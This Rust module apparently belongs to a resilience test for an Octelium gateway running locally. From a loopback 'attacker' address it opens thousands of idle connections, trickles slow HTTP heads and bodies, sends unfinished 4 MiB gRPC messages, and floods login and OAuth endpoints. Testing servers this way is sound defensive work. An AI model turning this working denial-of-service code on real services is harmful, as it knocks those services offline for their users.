//! An attack from one address, on its own threads.

use std::{
    convert::Infallible,
    net::Ipv4Addr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use bytes::Bytes;
use futures_util::{StreamExt as _, stream};
use http::{Method, Request, Version};
use http_body_util::{BodyExt as _, Full, StreamBody, combinators::UnsyncBoxBody};
use hyper::{body::Frame, client::conn::http2::SendRequest};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    runtime::Runtime,
};

use crate::{http::Target, replica::Replica, upstream};

const ATTACKER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 66);
const API: &str = "octelium-api.localhost";
const LOGIN: &str = "/octelium.api.main.auth.v1.MainService/AuthenticateWithAuthenticationToken";
const LIST: &str = "/octelium.api.main.core.v1.MainService/ListUser";
const IDLE: usize = 10_000;
const SLOW: usize = 100;
const FLOODS: usize = 8;
const MESSAGE_CONNECTIONS: usize = 8;
const MESSAGES: usize = 128;
/// The delay between the end of a connection and the next attempt.
const PAUSE: Duration = Duration::from_secs(1);
/// The interval between two bytes of a slow request.
const BEAT: Duration = Duration::from_secs(1);
/// The time in which each connection and message is tried at least once. Refused ones are retried.
const RAMP: Duration = Duration::from_secs(20);

type Body = UnsyncBoxBody<Bytes, Infallible>;

pub(super) struct Attack {
    runtime: Runtime,
    counts: Arc<Counts>,
    started: Instant,
}

#[derive(Default)]
struct Counts {
    /// Connections that are open and idle.
    idle: AtomicU64,
    most_idle: AtomicU64,
    messages: AtomicU64,
    slow: AtomicU64,
    refused: AtomicU64,
}

impl Attack {
    pub(super) fn start(replica: &Replica, target: &Target) -> Self {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .unwrap();
        let counts = Arc::new(Counts::default());
        let attacker = Attacker {
            target: target.from(ATTACKER),
            domain: replica.domain(),
            port: replica.address.port(),
            counts: Arc::clone(&counts),
        };
        for _ in 0..MESSAGE_CONNECTIONS {
            runtime.spawn(attacker.clone().send_unfinished_messages());
        }
        for number in 0..FLOODS {
            runtime.spawn(attacker.clone().flood(number));
        }
        for _ in 0..SLOW {
            runtime.spawn(attacker.clone().send_slow_head());
            runtime.spawn(attacker.clone().send_slow_body());
        }
        for number in 0..IDLE {
            runtime.spawn(attacker.clone().stay_idle(number));
        }
        Self {
            runtime,
            counts,
            started: Instant::now(),
        }
    }

    /// Waits until all parts of the attack have started.
    pub(super) async fn until_under_way(&self) {
        tokio::time::sleep_until((self.started + RAMP).into()).await;
    }

    /// Stops the attack. Returns the counts of its parts.
    pub(super) fn stop(self) -> Vec<(&'static str, f64)> {
        #[allow(clippy::cast_precision_loss, reason = "far below 2^52")]
        let count = |count: &AtomicU64| count.load(Ordering::Relaxed) as f64;
        let counts = vec![
            ("most idle connections", count(&self.counts.most_idle)),
            ("unfinished messages begun", count(&self.counts.messages)),
            ("slow heads and bodies begun", count(&self.counts.slow)),
            ("refused requests", count(&self.counts.refused)),
        ];
        self.runtime.shutdown_background();
        counts
    }
}

#[derive(Clone)]
struct Attacker {
    target: Target,
    domain: String,
    port: u16,
    counts: Arc<Counts>,
}

impl Attacker {
    async fn stay_idle(self, number: usize) {
        loop {
            // Spreads the connections to the rate that one thread can open.
            tokio::time::sleep(Duration::from_millis(u64::try_from(number).unwrap())).await;
            if number.is_multiple_of(2) {
                if let Ok(stream) = self.target.tcp().await {
                    self.until_closed(stream).await;
                }
            } else if let Ok(stream) = self.target.try_stream("localhost", b"http/1.1").await {
                self.until_closed(stream).await;
            }
        }
    }

    async fn until_closed(&self, mut stream: impl AsyncRead + Unpin) {
        let open = self.counts.idle.fetch_add(1, Ordering::Relaxed) + 1;
        self.counts.most_idle.fetch_max(open, Ordering::Relaxed);
        let _ = stream.read_to_end(&mut Vec::new()).await;
        self.counts.idle.fetch_sub(1, Ordering::Relaxed);
    }

    async fn http2(&self) -> Option<SendRequest<Body>> {
        let stream = self.target.try_stream(API, b"h2").await.ok()?;
        let io = TokioIo::new(stream);
        let handshake = hyper::client::conn::http2::handshake(TokioExecutor::new(), io);
        let (sender, connection) = handshake.await.ok()?;
        tokio::spawn(connection);
        Some(sender)
    }

    fn call(&self, path: &str, body: Body) -> Request<Body> {
        Request::builder()
            .version(Version::HTTP_2)
            .method(Method::POST)
            .uri(format!("https://{API}:{}{path}", self.port))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(body)
            .unwrap()
    }

    /// Sends messages of 4 MiB without their last byte, up to the point where the server stops reading.
    async fn send_unfinished_messages(self) {
        let length: u32 = 4 * 1024 * 1024;
        let message = [
            &[0][..],
            &length.to_be_bytes(),
            &vec![b'x'; 4 * 1024 * 1024 - 1],
        ]
        .concat();
        let message = Bytes::from(message);
        loop {
            if let Some(connection) = self.http2().await {
                let calls = (0..MESSAGES).map(|_| {
                    let mut connection = connection.clone();
                    let frame = Ok(Frame::data(message.clone()));
                    let frames = stream::iter([frame]).chain(stream::pending());
                    let request = self.call(LOGIN, StreamBody::new(frames).boxed_unsync());
                    self.counts.messages.fetch_add(1, Ordering::Relaxed);
                    async move { connection.send_request(request).await.is_ok() }
                });
                futures_util::future::join_all(calls).await;
            }
            tokio::time::sleep(PAUSE).await;
        }
    }

    async fn send_slow_head(self) {
        let head = format!("GET /login HTTP/1.1\r\nhost: {}\r\nx-slow: ", self.domain);
        self.send_slowly(&head).await;
    }

    async fn send_slow_body(self) {
        let head = format!(
            "POST /oauth2/token HTTP/1.1\r\nhost: {}\r\ncontent-type: application/x-www-form-urlencoded\r\n\
             content-length: 10000\r\n\r\ngrant_type=",
            self.domain
        );
        self.send_slowly(&head).await;
    }

    /// Sends `start`, then one byte at a time until the server closes the connection.
    async fn send_slowly(&self, start: &str) {
        loop {
            if let Ok(stream) = self.target.try_stream("localhost", b"http/1.1").await {
                self.counts.slow.fetch_add(1, Ordering::Relaxed);
                let (mut reader, writer) = tokio::io::split(stream);
                let mut answer = Vec::new();
                tokio::select! {
                    _ = reader.read_to_end(&mut answer) => {}
                    () = trickle(writer, start) => {}
                }
            }
            tokio::time::sleep(PAUSE).await;
        }
    }

    /// Sends requests that are refused, one after the other.
    async fn flood(self, number: usize) {
        loop {
            match number % 4 {
                0 => self.flood_calls().await,
                1 => self.flood_http1(upstream::HOST, "GET", "/", "").await,
                2 => {
                    let form = "grant_type=client_credentials&client_id=a&client_secret=b";
                    self.flood_http1("localhost", "POST", "/oauth2/token", form)
                        .await;
                }
                _ => {
                    let path = "/oauth2/device_authorization";
                    self.flood_http1("localhost", "POST", path, "client_id=octelium")
                        .await;
                }
            }
            tokio::time::sleep(PAUSE).await;
        }
    }

    async fn flood_calls(&self) {
        let Some(mut connection) = self.http2().await else {
            return;
        };
        loop {
            let request = self.call(LIST, Full::new(Bytes::new()).boxed_unsync());
            let Ok(response) = connection.send_request(request).await else {
                return;
            };
            let _ = response.into_body().collect().await;
            self.counts.refused.fetch_add(1, Ordering::Relaxed);
        }
    }

    async fn flood_http1(&self, host: &str, method: &str, path: &str, form: &str) {
        let Ok(stream) = self.target.try_stream(host, b"http/1.1").await else {
            return;
        };
        let handshake = hyper::client::conn::http1::handshake(TokioIo::new(stream));
        let Ok((mut sender, connection)) = handshake.await else {
            return;
        };
        tokio::spawn(connection);
        for number in 0_u64.. {
            let request = Request::builder()
                .method(method)
                .uri(path)
                .header("host", format!("{host}:{}", self.port))
                .header("content-type", "application/x-www-form-urlencoded")
                .header("user-agent", format!("agent {number}"))
                .body(Full::new(Bytes::from(form.to_owned())))
                .unwrap();
            if sender.ready().await.is_err() {
                return;
            }
            let Ok(response) = sender.send_request(request).await else {
                return;
            };
            let _ = response.into_body().collect().await;
            self.counts.refused.fetch_add(1, Ordering::Relaxed);
        }
    }
}

async fn trickle(mut writer: impl AsyncWrite + Unpin, start: &str) {
    let mut bytes = start.as_bytes();
    while writer.write_all(bytes).await.is_ok() && writer.flush().await.is_ok() {
        bytes = b"x";
        tokio::time::sleep(BEAT).await;
    }
}
